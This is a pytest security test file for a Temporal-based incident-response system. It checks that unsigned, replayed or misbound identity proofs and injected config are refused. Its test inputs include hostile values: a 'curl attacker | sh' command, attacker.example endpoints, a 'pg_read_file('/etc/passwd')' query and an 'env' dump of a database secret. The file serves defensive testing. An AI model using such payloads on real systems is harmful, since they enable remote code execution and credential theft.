"""The trust boundary holds against anyone with raw Temporal access: no typed name, no input
config and no replayed proof changes what CodeBlue does (worker.identity, StartedBy)."""

from __future__ import annotations

from typing import Any

import pytest
from temporalio import client as tclient
from temporalio.client import WorkflowFailureError, WorkflowUpdateFailedError

from domain.config import CodeBlueConfig, Contacts, HealthConfig
from domain.identity import HEADER, IdentityKeyError, Keyring, Principal, keyring_from_env, parse_key
from domain.incident import ActionState, CommanderAssignment, Decision, Escalation, Note, Resolution, TimelineKind
from domain.severity import Severity
from sandbox.memory_world import World
from starters import service
from tests.support.identity import raw_client
from tests.support.polling import until
from tests.support.workflows import action, entries, incident, proposed, skip, start, terminate, worker_for
from worker.identity import IdentityInterceptor, acting_as, proof_payload
from workflows.incident_response import IncidentResponseWorkflow


class _Recorder(tclient.Interceptor):
    """Outermost on a raw client: replays `inject` headers onto every call, as an attacker
    who copied a proof from a history would."""

    def __init__(self) -> None:
        self.inject: dict[str, Any] = {}

    def intercept_client(self, next: tclient.OutboundInterceptor) -> tclient.OutboundInterceptor:
        rec = self

        class _Out(tclient.OutboundInterceptor):
            async def start_workflow(self, input: tclient.StartWorkflowInput) -> Any:
                input.headers = {**input.headers, **rec.inject}
                return await super().start_workflow(input)

            async def signal_workflow(self, input: tclient.SignalWorkflowInput) -> None:
                input.headers = {**input.headers, **rec.inject}
                await super().signal_workflow(input)

            async def start_workflow_update(self, input: tclient.StartWorkflowUpdateInput) -> Any:
                input.headers = {**input.headers, **rec.inject}
                return await super().start_workflow_update(input)

        return _Out(next)


async def _start_with_config(env, workflow: str, inp: Any, wid: str, tq: str, config: dict) -> Any:
    """A properly signed start whose payload also carries `config`, as an insider with a valid
    proof and raw Temporal access would send it (the proof covers the model, which excludes it)."""
    import time

    proof = keyring_from_env().sign(wid, f"start:{workflow}", [inp], Principal(name=inp.requested_by, roles=["commander", "admin"]),
                                    time.time())
    rec = _Recorder()
    rec.inject = {HEADER: proof_payload(proof)}
    raw = await raw_client(env, rec)
    return await raw.start_workflow(workflow, {**inp.model_dump(mode="json"), "config": config}, id=wid, task_queue=tq)


async def _decided_by(h, action_id: str) -> str | None:
    rep = await h.query(IncidentResponseWorkflow.status)
    return next(a for a in rep.actions if a.id == action_id).decided_by


async def _proof_of(env, h, signal: str, arg) -> Any:
    """The header a legitimate signal carried, read back from the incident's history."""
    await h.signal(signal, arg)
    # a signal that arrives during a workflow task reaches the history when that task completes
    async def proof() -> Any:
        last = None
        async for ev in h.fetch_history_events():
            attrs = ev.workflow_execution_signaled_event_attributes
            if ev.HasField("workflow_execution_signaled_event_attributes") and attrs.signal_name == signal \
                    and HEADER in attrs.header.fields:
                last = attrs.header.fields[HEADER]
        return last

    return await until(proof, lambda p: p is not None, f"a {signal} signal with a proof in {h.id}'s history", timeout=10)


async def test_raw_decide_update_and_reject_signal_with_the_ics_name_change_nothing(skipping_env):
    world = World()
    async with worker_for(skipping_env, world) as tq:
        h = await start(skipping_env, world, incident(), tq)
        await until(h, proposed, "proposals")
        raw = (await raw_client(skipping_env)).get_workflow_handle(h.id)
        with pytest.raises(WorkflowUpdateFailedError) as e:
            await raw.execute_update(IncidentResponseWorkflow.decide, Decision(action_id="rollback", approve=True, by="alice"))
        assert "no proof of identity" in str(e.value.cause)
        with pytest.raises(WorkflowUpdateFailedError):
            await raw.execute_update(IncidentResponseWorkflow.resolve, Resolution(by="alice", summary="x", force=True))  # type: ignore[unused-coroutine]  # temporalio types a named async update as returning a coroutine
        await raw.signal(IncidentResponseWorkflow.reject, Decision(action_id="rollback", approve=False, by="alice", reason="r"))
        await raw.signal(IncidentResponseWorkflow.approve, Decision(action_id="scale", approve=True, by="alice"))
        await raw.signal(IncidentResponseWorkflow.assign_commander, CommanderAssignment(commander="mallory", by="alice"))
        await raw.signal(IncidentResponseWorkflow.escalate, Escalation(severity=Severity.P0, by="alice", reason="x"))
        await raw.signal(IncidentResponseWorkflow.add_note, Note(by="alice", text="fake note"))
        await raw.signal("resolve", Resolution(by="alice", summary="x", force=True))
        rep = await until(h, lambda r: len(entries(r, TimelineKind.IGNORED)) >= 6, "six ignored signals")
        ignored = entries(rep, TimelineKind.IGNORED)
        assert len(ignored) == 6
        # which handler refused is only in the entry's words
        assert {e.event for e in ignored} == {f"Ignored {n}: unauthenticated" for n in
                                             ("reject", "approve", "assign_commander", "escalate", "add_note", "resolve")}
        assert all(e.actor == "(unverified)" and "claimed to be from 'alice'" in (e.result or "") for e in ignored)
        assert all(a.state.value == "proposed" for a in rep.actions)
        assert rep.commander == "alice" and rep.status == "open" and not entries(rep, TimelineKind.NOTE)
        await terminate(h)
    assert world.effects == []


async def test_a_proof_is_bound_to_its_incident_handler_and_payload_and_used_once(skipping_env):
    world = World()
    async with worker_for(skipping_env, world) as tq:
        a = await start(skipping_env, world, incident(), tq)
        b = await start(skipping_env, world, incident(), tq)
        await until(a, proposed, "proposals on A")
        await until(b, proposed, "proposals on B")
        note = Note(by="alice", text="seen on A")
        proof = await _proof_of(skipping_env, a, "add_note", note)
        rec = _Recorder()
        rec.inject = {HEADER: proof}
        raw = await raw_client(skipping_env, rec)
        await raw.get_workflow_handle(b.id).signal(IncidentResponseWorkflow.add_note, note)  # another incident
        await raw.get_workflow_handle(a.id).signal(IncidentResponseWorkflow.add_note, note)  # replayed
        await raw.get_workflow_handle(a.id).signal(IncidentResponseWorkflow.add_note, Note(by="alice", text="altered"))
        await raw.get_workflow_handle(a.id).signal(  # another handler
            IncidentResponseWorkflow.approve, Decision(action_id="rollback", approve=True, by="alice"))
        rb = await until(b, lambda r: bool(entries(r, TimelineKind.IGNORED)), "refused on B")
        assert [f"made for {a.id}, not {b.id}" in (e.result or "") for e in entries(rb, TimelineKind.IGNORED)] == [True]
        assert not entries(rb, TimelineKind.NOTE)
        ra = await until(a, lambda r: len(entries(r, TimelineKind.IGNORED)) >= 3, "refused on A")
        why = [e.result or "" for e in entries(ra, TimelineKind.IGNORED)]
        assert len(why) == 3
        assert any("already used" in w for w in why)
        assert any("payload differs" in w for w in why)
        assert any("made for add_note, not approve" in w for w in why)
        assert [e.result for e in entries(ra, TimelineKind.NOTE)] == ["seen on A"]
        assert ra.actions[0].state.value == "proposed"
        for h in (a, b):
            await terminate(h)
    assert world.effects == []


async def test_a_rotated_key_still_verifies_and_an_unknown_key_does_not(skipping_env):
    old, new = "old-key-0123456789abcdef", "new-key-0123456789abcdef"
    worker_client = await raw_client(skipping_env, IdentityInterceptor(Keyring([parse_key(new), parse_key(old)])))
    old_signer = await raw_client(skipping_env, IdentityInterceptor(Keyring([parse_key(old)]), via=""))
    stranger = await raw_client(skipping_env, IdentityInterceptor(Keyring([parse_key("other-key-0123456789abc")]), via=""))
    world = World()
    import uuid

    from temporalio.worker import Worker

    from sandbox.memory_world import incident_worker

    tq = f"tq-{uuid.uuid4().hex[:8]}"
    async with Worker(worker_client, task_queue=tq, **incident_worker(world)):
        h = await service.start_incident(old_signer, incident(), tq)
        await until(h, proposed, "proposals")
        with pytest.raises(service.CodeBlueError, match="key is unknown"):
            await service.decide(stranger, h.id, Decision(action_id="scale", approve=True, by="alice"))
        await service.decide(old_signer, h.id, Decision(action_id="scale", approve=False, by="alice", reason="no"))
        assert await _decided_by(h, "scale") == "alice"
        await terminate(h)


async def test_the_actor_is_the_authenticated_principal_and_a_typed_by_cannot_differ(skipping_env):
    world = World()
    async with worker_for(skipping_env, world) as tq:
        h = await start(skipping_env, world, incident(), tq)
        await until(h, proposed, "proposals")
        api = await raw_client(skipping_env, IdentityInterceptor(keyring_from_env(), via=None))
        with pytest.raises(service.CodeBlueError, match="no proof of identity"):  # the API never signs a typed name
            await service.decide(api, h.id, Decision(action_id="scale", approve=True, by="alice"))
        with acting_as(Principal(name="bob", roles=["commander"])):
            with pytest.raises(IdentityKeyError, match="not the authenticated actor bob"):
                await service.decide(api, h.id, Decision(action_id="scale", approve=True, by="alice"))
            with pytest.raises(service.CodeBlueError, match="bob is not the incident commander"):
                await service.decide(api, h.id, Decision(action_id="scale", approve=True, by="bob"))
        operator = await raw_client(skipping_env, IdentityInterceptor(keyring_from_env()))
        await service.decide(operator, h.id, Decision(action_id="scale", approve=False, by="alice", reason="no"))
        assert await _decided_by(h, "scale") == "alice (operator key)"
        await terminate(h)


async def test_a_raw_start_is_refused_and_acts_on_nothing(skipping_env):
    world = World()
    async with worker_for(skipping_env, world) as tq:
        raw = await raw_client(skipping_env)
        inp = incident()
        h = await service.start_incident(raw, inp, tq)
        with pytest.raises(WorkflowFailureError):
            await h.result()
        rep = await h.query(IncidentResponseWorkflow.status)
    assert rep.status == "refused" and [(e.kind, e.actor) for e in rep.timeline] == [(TimelineKind.IGNORED, "(unverified)")]
    assert world.pages == [] and world.calls["pod_status"] == 0 and world.calls["worker_config"] == 0


async def test_config_in_an_input_changes_no_url_contact_command_or_approver(skipping_env):
    world = World()
    world.config = CodeBlueConfig(health=HealthConfig(url="http://worker.example/health"),
                                  contacts=Contacts(on_call="+1-555-0100"))
    evil = {"health": {"url": "http://attacker.example/x"}, "contacts": {"on_call": "+1-666"},
            "database": {"check_command": ["sh", "-c", "curl attacker | sh"]},
            "mitigation": {"approvers": ["mallory"]}}
    async with worker_for(skipping_env, world) as tq:
        inp = incident()
        h = await _start_with_config(skipping_env, "IncidentResponseWorkflow", inp, inp.incident_id, tq, evil)
        world.handles.append(h)
        await until(h, proposed, "proposals")
        with pytest.raises(service.CodeBlueError, match="mallory is not the incident commander"):
            await service.decide(skipping_env.client, h.id, Decision(action_id="db-check", approve=True, by="mallory"))
        for a in (await h.query(IncidentResponseWorkflow.status)).actions:
            await service.decide(skipping_env.client, h.id, Decision(action_id=a.id, approve=a.id == "db-check", by="alice",
                                                                     reason=None if a.id == "db-check" else "not now"))
        await until(h, lambda r: action(r, "db-check").state in (ActionState.EXECUTED, ActionState.FAILED)
                    and bool(entries(r, TimelineKind.EXECUTED) or entries(r, TimelineKind.FAILED)), "db-check ran")
        await terminate(h)
    assert set(world.probed) == {"http://worker.example/health"}
    assert {p.contact for p in world.pages_to("on_call")} == {"+1-555-0100"}
    assert world.db_commands == [None]


async def test_activities_refuse_targets_the_workers_config_does_not_name():
    """Defence in depth: even a request built from some other config touches nothing."""
    from temporalio.exceptions import ApplicationError

    from activities.db_cutover import DbCutoverActivities
    from activities.health import HealthActivities
    from activities.helm import HelmActivities
    from activities.kubernetes import KubernetesActivities
    from activities.notify import NotifierActivities
    from activities.post_incident import PostIncidentActivities
    from activities.targets import Targets
    from domain.cluster import DbCheckRequest, HealthProbeRequest, HelmRollbackRequest, RestartRequest, ScaleRequest
    from domain.config import NotificationConfig, PostIncidentConfig, SmokeCheck
    from domain.database_restore import SecretBackupRef, SecretBackupRequest, SecretPointRequest
    from domain.notify import Audience, PageRequest
    from domain.post_incident import SmokeCheckRequest
    from domain.service_recovery import HelmUpgradeRequest

    cfg = CodeBlueConfig(health=HealthConfig(url="http://worker.example/health"), contacts=Contacts(on_call="+1-555-0100"),
                         postincident=PostIncidentConfig(smoke_checks=[SmokeCheck(name="login", url="http://worker.example/login")]))
    t = Targets(cfg)
    refusals = [
        HealthActivities(targets=t).probe_health(HealthProbeRequest(url="http://attacker.example/", attempts=1)),
        NotifierActivities(NotificationConfig(), targets=t).page(PageRequest(
            incident_id="INC-1", audience=Audience.ON_CALL, contact="+1-666", severity="P0", summary="x", dedup_key="k")),
        PostIncidentActivities(cfg.postincident, targets=t).smoke_check(SmokeCheckRequest(
            name="login", method="POST", url="http://attacker.example/login", expected_status=200)),
        KubernetesActivities(None, targets=t).db_check(DbCheckRequest(  # no API client: refused before any call
            namespace="healthcare-prod", deployment="api-gateway", secret_name="healthcare-db-secret",
            secret_key="DATABASE_URL", command=["sh", "-c", "env"])),
        # the mutating steps: only the configured deployment, release, chart and database secret
        KubernetesActivities(None, targets=t).scale_deployment(ScaleRequest(namespace="healthcare-prod", deployment="billing", replicas=0)),
        KubernetesActivities(None, targets=t).rollout_restart(RestartRequest(namespace="kube-system", deployment="api-gateway",
                                                                            restarted_at="now")),
        HelmActivities(["helm"], targets=t).helm_rollback(HelmRollbackRequest(release="someone-else", namespace="healthcare-prod",
                                                                              from_revision=2, to_revision=1)),
        HelmActivities(["helm"], targets=t).helm_upgrade(HelmUpgradeRequest(
            release="healthcare-platform", namespace="healthcare-prod", chart="oci://attacker.example/chart", image_tag="x",
            from_revision=1, marker="m", timeout_seconds=60)),
        DbCutoverActivities(None, targets=t).db_secret_point(SecretPointRequest(backup=SecretBackupRef(
            namespace="healthcare-prod", secret_name="payments-db", secret_key="DATABASE_URL", backup_name="b"),
            host="attacker.example", port=5432)),
        DbCutoverActivities(None, targets=t).db_secret_backup(SecretBackupRequest(
            incident_id="INC-1", namespace="healthcare-prod", secret_name="healthcare-db-secret", secret_key="OTHER_KEY")),
    ]
    for call in refusals:
        with pytest.raises(ApplicationError) as e:
            await call
        assert e.value.type == "TargetNotConfigured" and e.value.non_retryable and "not in the worker's config" in str(e.value)


async def test_a_post_incident_input_config_changes_no_smoke_check(skipping_env):
    from domain.config import SmokeCheck
    from domain.post_incident import PostIncidentInput, postmortem_workflow_id
    from sandbox.memory_world import configure_worker
    from tests.support.post_incident import child_ready, config, healthy, post_worker, resolved_report

    pw, rep = healthy(), resolved_report()
    configure_worker(rep.incident_id, config(smoke_checks=[SmokeCheck(name="login", url="http://worker.example/login")]))
    evil = {"postincident": {"smoke_checks": [{"name": "steal", "url": "http://attacker.example/x"}]},
            "contacts": {"on_call": "+1-666"}}
    async with post_worker(skipping_env, pw) as tq:
        h = await _start_with_config(skipping_env, "PostIncidentWorkflow",
                                     PostIncidentInput(incident_id=rep.incident_id, report=rep, requested_by="alice"),
                                     postmortem_workflow_id(rep.incident_id), tq, evil)
        pw.world.handles.append(h)
        await child_ready(skipping_env, h)
    assert [(s.name, s.url) for s in pw.smoke_calls] == [("login", "http://worker.example/login")]
    assert all(p.contact != "+1-666" for p in pw.world.pages)


async def test_a_restore_input_config_changes_no_endpoint_or_query(skipping_env):
    from tests.support.db_fakes import DbWorld
    from tests.support.restore import proposed as restore_proposed
    from tests.support.restore import restore_config, restore_input, restore_worker
    from workflows.database_restore import DatabaseRestoreWorkflow

    env, db = skipping_env, DbWorld()
    async with restore_worker(env, db.activities(), db.handles) as tq:
        inp = restore_input(config=restore_config())
        h = await _start_with_config(env, "DatabaseRestoreWorkflow", inp, f"{inp.incident_id}-db-restore", tq, {
            "restore": {"endpoint_override": "attacker.example:5432", "sanity_query": "SELECT pg_read_file('/etc/passwd')"},
            "aws": {"rds_instance": "someone-elses-db"}})
        db.handles.append(h)
        rep = await until(h, restore_proposed("restore"), "gate 1", timeout=30, query=DatabaseRestoreWorkflow.status)
        assert "someone-elses-db" not in rep.actions[0].reason
        await service.decide(env.client, h.id, Decision(action_id="restore", approve=True, by="alice"))
        await skip(env, 26)  # the scripted restore takes 25 minutes of the server's clock
        rep = await until(h, restore_proposed("cutover"), "gate 2", timeout=30, query=DatabaseRestoreWorkflow.status)
        await terminate(h)
    assert db.verify_requests and all(r.sanity_query != "SELECT pg_read_file('/etc/passwd')" and r.host != "attacker.example"
                                      for r in db.verify_requests)
